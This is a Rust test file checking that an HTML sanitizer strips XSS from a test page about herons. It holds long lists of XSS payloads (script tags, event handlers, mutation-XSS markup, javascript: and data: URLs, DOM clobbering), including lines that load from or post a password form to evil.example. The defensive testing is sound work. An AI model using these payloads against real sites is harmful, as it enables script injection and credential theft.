//! Tests with XSS payloads: after sanitizing, only elements and attributes remain that run nothing and load nothing but images
//! (rows X1, X2, X3, X7).

use trafilatura::dom::{Document, NodeId};
use url::Url;

use super::sanitize::sanitize;
use super::{read_article, render_all};

/// The elements and attributes that may remain. Not derived from the sanitizer's own lists, so that an error there is found.
const ALLOWED: [(&str, &[&str]); 46] = [
    ("p", &["data-start", "dir"]),
    ("span", &["data-start", "dir"]),
    ("pre", &["data-start", "dir"]),
    ("h1", &["data-start", "dir"]),
    ("h2", &["data-start", "dir"]),
    ("h3", &["data-start", "dir"]),
    ("h4", &["data-start", "dir"]),
    ("h5", &["data-start", "dir"]),
    ("h6", &["data-start", "dir"]),
    ("ul", &[]),
    ("ol", &["start"]),
    ("li", &["value"]),
    ("dl", &[]),
    ("dt", &[]),
    ("dd", &[]),
    ("blockquote", &[]),
    ("table", &[]),
    ("tbody", &[]),
    ("tr", &[]),
    ("td", &["colspan", "rowspan"]),
    ("th", &["colspan", "rowspan"]),
    ("figure", &[]),
    ("figcaption", &[]),
    ("img", &["alt", "loading", "referrerpolicy", "src"]),
    ("br", &[]),
    ("a", &["data-to", "href", "rel"]),
    ("b", &[]),
    ("strong", &[]),
    ("i", &[]),
    ("em", &[]),
    ("u", &[]),
    ("s", &[]),
    ("del", &[]),
    ("ins", &[]),
    ("mark", &[]),
    ("small", &[]),
    ("sub", &[]),
    ("sup", &[]),
    ("code", &[]),
    ("kbd", &[]),
    ("samp", &[]),
    ("var", &[]),
    ("q", &[]),
    ("cite", &[]),
    ("dfn", &[]),
    ("abbr", &["title"]),
];

/// Scripts in all places where browsers have run them, from the lists of OWASP, PayloadsAllTheThings and DOMPurify.
const SCRIPTS: [&str; 66] = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</ScRiPt >",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script>/* */alert(1)/* */</script>",
    "<<script>alert(1)//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example')</script>",
    "<script>alert(1)",
    "<script <b>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=x:x onerror=alert(1)//",
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x srcset=\"x onerror=alert(1)\">",
    "<image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<p onmouseover=alert(1)>x</p>",
    "<b onanimationstart=alert(1) style=\"animation:x\">x</b>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"position:fixed;inset:0;background:#fff\">x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<meta http-equiv=Set-Cookie content=\"a=b\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=//evil.example/ target=_top>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=//evil.example type=text/html></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x archive=//evil.example></applet>",
    "<form action=//evil.example><input name=password type=password><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<portal src=//evil.example></portal>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)>x</slot>",
    "<xml id=x><![CDATA[<script>alert(1)</script>]]></xml>",
    "<?xml version=\"1.0\"?><?php alert(1)?>",
    "<!--><script>alert(1)</script>-->",
    "<x contenteditable onblur=alert(1)>x</x>",
];

/// Markup that parsers read differently (mutation XSS; includes RUSTSEC-2025-0071, RUSTSEC-2026-0193 and -0213).
const MUTATIONS: [&str; 34] = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mi><table><mi><style><!--</style><a title=\"--><img src=x onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x onerror=alert(1) src=x>\">",
    "<table><tr><td><svg><td><style><img src=x onerror=alert(1)></style></table>",
    "<a title=\"`<img src=x onerror=alert(1)>`\">x</a><p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<abbr title=\"x&quot; onmouseover=&quot;alert(1)\">x</abbr><img alt='\"><script>alert(1)</script>' src=/x>",
];

/// URLs that browsers have executed or resolved to something other than a web page.
const HOSTILE_URLS: [&str; 36] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "\u{a0}javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "javascript\t:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "jav&NewLine;ascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript://example.org/%0aalert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:application/xhtml+xml,x",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "about:blank",
    "chrome://settings",
    "intent://x#Intent;end",
    "ms-settings:x",
    "https:evil.example\\@example.org:99999/",
];

/// Elements whose ids and names replace properties that scripts read (DOM clobbering).
const CLOBBERING: [&str; 10] = [
    "<a id=config href=/x>x</a>",
    "<a id=x><a id=x name=y href=javascript:alert(1)>x</a>",
    "<form name=location><input name=href></form>",
    "<form id=document><input id=cookie name=cookie></form>",
    "<img name=getElementById src=/x>",
    "<img name=currentScript src=/x>",
    "<iframe name=parent src=/x></iframe>",
    "<object name=body data=/x></object>",
    "<p id=__proto__ class=carrel-dialog slot=x part=x>x</p>",
    "<a data-config=x data-start=9 tabindex=1 accesskey=x autofocus href=/x>x</a>",
];

/// Returns what this markup holds that is not in the allow list.
fn disallowed(html: &str) -> Vec<String> {
    let page = Document::parse(html);
    let elements = page.iter_descendants(page.root(), &[]).into_iter();
    let mut wrong: Vec<String> = elements.flat_map(|element| disallowed_in(&page, element)).collect();
    if !page.collect_comment_nodes(page.root()).is_empty() {
        wrong.push("a comment".to_owned());
    }
    wrong
}

fn disallowed_in(page: &Document, element: NodeId) -> Vec<String> {
    let tag = page.tag_name(element);
    // The parser puts these around every fragment.
    let around: [(&str, &[&str]); 3] = [("html", &[]), ("head", &[]), ("body", &[])];
    let Some((_, attributes)) = ALLOWED.iter().chain(&around).find(|(shown, _)| *shown == tag) else {
        return vec![format!("<{tag}>")];
    };
    let names = page.attribute_names(element).into_iter();
    let mut wrong: Vec<String> = names
        .filter(|name| !attributes.contains(&name.as_str()))
        .map(|name| format!("<{tag} {name}>"))
        .collect();
    for name in ["href", "src"] {
        let Some(address) = page.get_attribute(element, name) else { continue };
        let schemes: &[&str] = if name == "href" { &["http", "https", "mailto"] } else { &["http", "https"] };
        if !Url::parse(&address).is_ok_and(|url| schemes.contains(&url.scheme())) {
            wrong.push(format!("<{tag} {name}={address}>"));
        }
    }
    let fixed = match tag {
        "a" if page.get_attribute(element, "href").is_some() => Some(("rel", "nofollow noopener noreferrer")),
        "img" => Some(("referrerpolicy", "no-referrer")),
        _ => None,
    };
    if let Some((name, value)) = fixed
        && page.get_attribute(element, name).as_deref() != Some(value)
    {
        wrong.push(format!("<{tag}> without {name}"));
    }
    wrong
}

/// `kept` is what the sanitizer keeps in addition to [`ALLOWED`], as [`disallowed`] names it.
#[track_caller]
fn assert_harmless(html: &str, payload: &str, kept: &[&str]) {
    let wrong = |html: &str| -> Vec<String> {
        disallowed(html).into_iter().filter(|name| !kept.contains(&name.as_str())).collect()
    };
    assert_eq!(wrong(html), [""; 0], "{payload}\nbecame {html}");
    // Parsing and serializing it again must not restore markup (mutation XSS).
    let page = Document::parse(html);
    let again = page.inner_html(page.body().unwrap_or_else(|| page.root()));
    assert_eq!(wrong(&again), [""; 0], "{payload}\nbecame {html}\nand then {again}");
}

/// A page with the payload between words, in a table cell, in a list and in a heading.
fn page(payload: &str) -> String {
    format!(
        "<html><head><title>Herons</title></head><body><article><h1>Herons</h1><p>Herons stand in the reeds for an hour, waiting.</p>\
         <p>Before {payload} after.</p><table><tr><td>{payload}</td></tr></table><ul><li>{payload}</li></ul><h2>Next {payload}</h2>\
         <p>They are as still as the water, and then they strike.</p></article></body></html>"
    )
}

fn payloads() -> Vec<String> {
    let mut all: Vec<String> =
        [&SCRIPTS[..], &MUTATIONS, &CLOBBERING].concat().into_iter().map(str::to_owned).collect();
    for address in HOSTILE_URLS {
        all.push(format!("<a href=\"{address}\">x</a>"));
        all.push(format!("<img src=\"{address}\" alt=x width=600 height=600>"));
        all.push(format!("<a href='{address}' target=_blank rel=opener ping=//evil.example><b>x</b></a>"));
    }
    all
}

/// Covers the threat table (rows X1, X2, X3, X7).
#[test]
fn html_of_a_hostile_page_is_harmless() {
    let url = Url::parse("https://site.example/a/page").unwrap();
    for payload in payloads() {
        let markup = page(&payload);

        let html = render_all(&markup, Some(&url)).unwrap().html.unwrap();

        assert!(html.contains("Herons stand"), "{payload}: {html}");
        assert_harmless(&html, &payload, &[]);
    }
}

/// Covers the threat table (rows X1, X2, X3, X7).
#[test]
fn article_of_a_hostile_page_is_harmless() {
    for payload in payloads() {
        let markup = page(&payload);

        let article = read_article(&markup, "https://site.example/a/page", None).unwrap();

        let html = article.html.unwrap();
        assert!(html.contains("Herons stand"), "{payload}: {html}");
        assert_harmless(&html, &payload, &[]);
        for address in [article.image_url, article.canonical_url, article.moved_to].into_iter().flatten() {
            assert!(
                address.starts_with("http://") || address.starts_with("https://"),
                "{payload}: {address}"
            );
        }
    }
}

/// Covers the threat table (rows X1, X2, X3, X7).
#[test]
fn hostile_html_from_an_archive_is_cleaned() {
    for payload in payloads() {
        for html in [payload.clone(), page(&payload), format!("<p data-start=\"0\">x</p>{payload}")] {
            // The sanitizer of archives keeps the titles of links, which are plain text.
            assert_harmless(&sanitize(&html), &payload, &["<a title>"]);
        }
    }
}
